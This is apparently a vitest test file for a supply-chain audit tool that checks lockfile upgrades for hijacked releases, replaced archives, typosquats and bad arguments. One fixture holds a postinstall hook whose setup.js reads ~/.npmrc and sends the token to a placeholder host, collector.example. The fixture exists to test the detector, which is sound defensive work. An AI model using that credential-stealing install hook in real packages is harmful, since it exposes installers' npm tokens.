import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { reportSchema, type AuditReport } from '@galley/findings'
import { tempFolder } from '@galley/testkit/vitest'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { serveReleases, type LoopbackRegistry } from './loopback-registry.ts'
import { audit, commit, npmLock, write } from './project.ts'

const quiet = { 'package.json': '{"main":"index.js"}', 'index.js': 'export const one = 1\n' }
const stealer =
  "const fs = require('fs')\nconst token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8')\nfetch('https://collector.example/' + token)\n"
const hijacked = {
  'package.json': '{"main":"index.js","scripts":{"postinstall":"node setup.js"}}',
  'index.js': 'export const one = 1\n',
  'setup.js': stealer,
}

let registry: LoopbackRegistry
let folder: string

beforeAll(async () => {
  registry = await serveReleases([
    { name: 'tidy', version: '1.0.0', files: quiet },
    { name: 'tidy', version: '1.0.1', files: { ...quiet, 'index.js': 'export const one = 2\n' } },
    { name: 'taken', version: '2.1.0', files: quiet },
    { name: 'taken', version: '2.1.1', files: hijacked },
    { name: 'fresh', version: '0.1.0', files: quiet },
  ])
})
afterAll(async () => registry.close())
beforeEach(() => {
  folder = tempFolder()
})

const entry = (name: string, version: string): readonly [string, string] => [version, registry.integrityOf(name, version)]
const before = (): string => npmLock({ tidy: entry('tidy', '1.0.0'), taken: entry('taken', '2.1.0'), gone: ['1.0.0', ''] })
const after = (): string => npmLock({ tidy: entry('tidy', '1.0.1'), taken: entry('taken', '2.1.1'), fresh: entry('fresh', '0.1.0') })

async function since(state: string, ...args: readonly string[]): ReturnType<typeof audit> {
  const all = ['--since', state, '--only', 'upgrades', '--data', join(folder, '.data'), ...args]
  return audit(folder, all, { env: { npm_config_registry: registry.url, PATH: process.env['PATH'] }, fetch })
}

async function report(state: string, ...args: readonly string[]): Promise<AuditReport> {
  const { out, said } = await since(state, '--json', ...args)
  expect(said).toBe('')
  return JSON.parse(out) as AuditReport
}

describe('galley audit --since', () => {
  test('tells a hijacked release from a quiet one, first and with the lines that show it', async () => {
    commit(folder, { 'package-lock.json': before() })
    write(folder, { 'package-lock.json': after() })
    const { code, out } = await since('main')
    expect(code).toBe(1)
    expect(out).toContain('Since main: 2 upgrades, 1 new package, 1 removed')
    expect(out).toMatch(/CRITICAL taken 2\.1\.0 → 2\.1\.1 {2}patch release, asked for by the project · package-lock\.json:\d+/)
    expect(out).toMatch(/setup\.js:\d+ {2}.*npmrc/)
    expect(out).toContain('do  Stay with 2.1.0 until its maintainers explain this.')
    expect(out).toMatch(/Looked at, with nothing to say of .*tidy 1\.0\.0 → 1\.0\.1/)
    expect(out).toContain('Removed  gone@1.0.0')
    expect(out).toContain('Not known  when they were released, who published them and where they were built, for 3 of 3 releases')
  })

  test('compares with a file as with a revision', async () => {
    commit(folder, { 'package-lock.json': before() })
    write(folder, { 'package-lock.json': after(), 'old/kept.json': before() })
    const named = await report('old/kept.json', 'package-lock.json')
    const revised = await report('HEAD', 'package-lock.json')
    expect(named.findings).toEqual(revised.findings)
    expect(named.upgrades?.cards).toEqual(revised.upgrades?.cards)
  })

  test('one file is the earlier state of one lockfile, not of two', async () => {
    write(folder, { 'package-lock.json': after(), 'tools/package-lock.json': after(), 'old/kept.json': before() })
    const { code, said } = await since('old/kept.json', 'package-lock.json', 'tools/package-lock.json')
    expect(said).toContain('[SINCE_SEVERAL]')
    expect(code).toBe(2)
  })

  test('every report is one of the schema, and SARIF points at the line of the release', async () => {
    commit(folder, { 'package-lock.json': before() })
    write(folder, { 'package-lock.json': after() })
    const one = await report('main')
    const validate = new Ajv2020({ strict: true, allowUnionTypes: true }).compile(reportSchema)
    expect(validate(one), JSON.stringify(validate.errors)).toBe(true)
    const { out } = await since('main', '--format', 'sarif')
    const places = JSON.parse(out).runs[0].results.map(
      (result: { ruleId: string; locations: { physicalLocation: { region: { startLine: number } } }[] }) => [
        result.ruleId,
        result.locations[0]?.physicalLocation.region.startLine,
      ],
    )
    const line =
      after()
        .split('\n')
        .findIndex((text) => text.includes('node_modules/taken')) + 1
    expect(places).toContainEqual(['SC019/critical', line])
  })

  test('a second run asks for no archive again, and offline says what it cannot open', async () => {
    commit(folder, { 'package-lock.json': before() })
    write(folder, { 'package-lock.json': after() })
    const first = await report('main')
    const archives = (): number => registry.asked.filter((path) => path.endsWith('.tgz')).length
    const asked = archives()
    expect((await report('main')).findings).toEqual(first.findings)
    expect((await report('main', '--offline')).findings.filter(({ code }) => code !== 'not-checked')).toEqual(first.findings)
    expect(archives()).toBe(asked)
    const { code, out } = await audit(folder, ['--since', 'main', '--offline', '--only', 'names', '--data', join(folder, 'empty')], {
      env: { PATH: process.env['PATH'] },
    })
    expect(out).toContain('NOT CHECKED  upgrades: 3 releases were not opened: it is not in the cache, and no registry was asked')
    expect(out).toMatch(/Not opened {2}.*tidy/)
    expect(out).not.toContain('nothing to say of')
    expect(code).toBe(0)
    expect((await since('main', '--offline', '--data', join(folder, 'empty'))).code).toBe(3)
  })

  test('another archive than the locked one is critical, and is not looked at', async () => {
    const locked = entry('fresh', '0.1.0')[1]
    commit(folder, { 'package-lock.json': npmLock({ taken: entry('taken', '2.1.0') }) })
    write(folder, { 'package-lock.json': npmLock({ taken: ['2.1.1', locked] }) })
    const { findings, upgrades } = await report('HEAD')
    expect(findings.map(({ code, severity }) => `${severity} ${code}`)).toEqual(['critical release-replaced'])
    expect(upgrades?.cards[0]?.opened).toBe(false)
  })

  test('the same version with another hash is critical', async () => {
    commit(folder, { 'package-lock.json': npmLock({ tidy: entry('tidy', '1.0.0') }) })
    write(folder, { 'package-lock.json': npmLock({ tidy: ['1.0.0', entry('tidy', '1.0.1')[1]] }) })
    expect((await report('HEAD')).findings.map(({ code, severity }) => `${severity} ${code}`)).toEqual(['critical release-replaced'])
  })

  test('a waiver of the policy holds for what a release brings', async () => {
    const waiver = (rule: string): object => ({
      rule,
      purl: 'pkg:npm/taken@2.1.1',
      reason: 'read by hand',
      owner: 'ada',
      severity: 'critical',
      expires: '2027-01-01',
    })
    const policy = JSON.stringify({ waivers: [waiver('capability-gained'), waiver('install-script-gained')] })
    commit(folder, { 'package-lock.json': before(), 'audit-policy.json': policy })
    write(folder, { 'package-lock.json': after() })
    const { code, out } = await since('main')
    expect(out).toMatch(/WAIVED taken 2\.1\.0 → 2\.1\.1/)
    expect(code).toBe(0)
  })

  test('a lockfile that was renamed is compared with what it was', async () => {
    commit(folder, { 'package-lock.json': npmLock({ tidy: entry('tidy', '1.0.0'), fresh: entry('fresh', '0.1.0') }) })
    rmSync(join(folder, 'package-lock.json'))
    write(folder, { 'npm-shrinkwrap.json': npmLock({ tidy: entry('tidy', '1.0.1'), fresh: entry('fresh', '0.1.0') }) })
    const { upgrades } = await report('HEAD')
    expect(upgrades?.cards.map(({ from, to }) => `${from} ${to}`)).toEqual(['1.0.0 1.0.1'])
  })

  test('each folder has its own lockfile and its own past', async () => {
    commit(folder, {
      'a/package-lock.json': npmLock({ tidy: entry('tidy', '1.0.0') }),
      'b/package-lock.json': npmLock({ tidy: entry('tidy', '1.0.1') }),
    })
    write(folder, {
      'a/package-lock.json': npmLock({ tidy: entry('tidy', '1.0.1') }),
      'c/package-lock.json': npmLock({ fresh: entry('fresh', '0.1.0') }),
    })
    const { upgrades } = await report('HEAD')
    expect(upgrades?.cards.map(({ at, from, to }) => `${at.file} ${from} ${to}`)).toEqual([
      'a/package-lock.json 1.0.0 1.0.1',
      'c/package-lock.json null 0.1.0',
    ])
  })

  test('one release in two lockfiles is one card with both places, and two results of SARIF', async () => {
    commit(folder, {
      'a/package-lock.json': npmLock({ taken: entry('taken', '2.1.0') }),
      'b/package-lock.json': npmLock({ taken: entry('taken', '2.1.0') }),
    })
    write(folder, {
      'a/package-lock.json': npmLock({ taken: entry('taken', '2.1.1') }),
      'b/package-lock.json': npmLock({ taken: entry('taken', '2.1.1') }),
    })
    const { out } = await since('main')
    expect(out).toContain('Since main: 1 upgrade\n')
    expect(out.match(/taken 2\.1\.0 → 2\.1\.1 /g)).toHaveLength(1)
    expect(out).toMatch(/a\/package-lock\.json:\d+ and 1 more/)
    const { out: markdown } = await since('main', '--format', 'markdown')
    expect(markdown).toMatch(/`a\/package-lock\.json:\d+`, `b\/package-lock\.json:\d+`/)
    expect(markdown.match(/\*\*install-script-gained\*\*/g)).toHaveLength(1)
    const { out: sarif } = await since('main', '--format', 'sarif')
    expect(sarif.match(/"code": "install-script-gained"/g)).toHaveLength(2)
  })

  test('a name that is new here meets the stricter tier', async () => {
    commit(folder, { 'package-lock.json': npmLock({ tidy: entry('tidy', '1.0.0') }) })
    write(folder, { 'package-lock.json': npmLock({ tidy: entry('tidy', '1.0.0'), expresss: ['1.0.0', ''] }) })
    const { findings } = await report('HEAD', '--offline')
    expect(findings.map(({ code, severity }) => `${severity} ${code}`)).toContain('critical name-confusion')
  })

  test('one file is not the earlier state of several lockfiles', async () => {
    commit(folder, {
      'a/package-lock.json': before(),
      'b/package-lock.json': npmLock({ fresh: entry('fresh', '0.1.0') }),
      'old.json': before(),
    })
    const { code, said } = await since('old.json')
    expect({ code, said }).toEqual({ code: 2, said: expect.stringContaining('old.json is one lockfile, and 2 are audited') })
  })

  test.each([
    ['nosuch', 'git knows no such commit'],
    ['--output=/tmp/x', 'no revision begins with a hyphen'],
    ['', 'none is empty'],
  ])('%j is no earlier state', async (state, why) => {
    commit(folder, { 'package-lock.json': before() })
    const { code, said } = await audit(folder, [`--since=${state}`, '--offline'], { env: { PATH: process.env['PATH'] } })
    expect({ code, said }).toEqual({ code: 2, said: expect.stringContaining(why) })
  })
})
